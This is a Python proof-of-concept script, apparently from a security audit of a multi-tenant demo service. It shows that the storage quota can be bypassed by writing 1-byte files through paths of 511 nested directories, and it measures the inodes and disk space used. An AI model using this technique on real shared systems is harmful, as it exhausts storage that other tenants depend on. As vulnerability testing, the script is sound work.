"""Storage quota: directories made for a deep path are free, so a handful of 1-byte files through
the demo's write_file cost the shared disk hundreds of directories (inodes, 4 KiB each) apiece.

Run: TENANTRY_DATA_DIR=... .venv/bin/python attack/deep_dirs_quota.py
Sets acme's quota to file_count=5, file_bytes=100 first (put back with --clear afterwards).
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from common import Legacy, body, cli, token  # noqa: E402

data = Path(os.environ["TENANTRY_DATA_DIR"])
cli("tenant", "limits", "acme", "file_count=5", "file_bytes=100")
import time; time.sleep(1.5)
files_root = data / "tenants" / "acme" / "files"


def inodes() -> tuple[int, int]:
    dirs = sum(len(d) for _, d, _ in os.walk(files_root))
    kib = int(subprocess.run(["du", "-sk", str(files_root)], capture_output=True, text=True).stdout.split()[0])
    return dirs, kib


print("before: directories, disk KiB =", inodes())
s = Legacy(token())
for n in range(3):
    # 1024 characters at most: 511 one-letter directories and a 1-byte file
    path = "/".join([chr(ord("a") + n)] * 511) + "/f"
    r = s.tool("write_file", {"path": path[:1024], "content": "x"})
    print(n, r.status_code, str(body(r))[:160])
print("after 3 writes: directories, disk KiB =", inodes())
r = s.tool("write_file", {"path": "over/quota.txt", "content": "y" * 200})
print("positive control, a 200-byte file:", str(body(r))[:200])
cli("tenant", "limits", "acme", "--clear", "file_count", "--clear", "file_bytes")
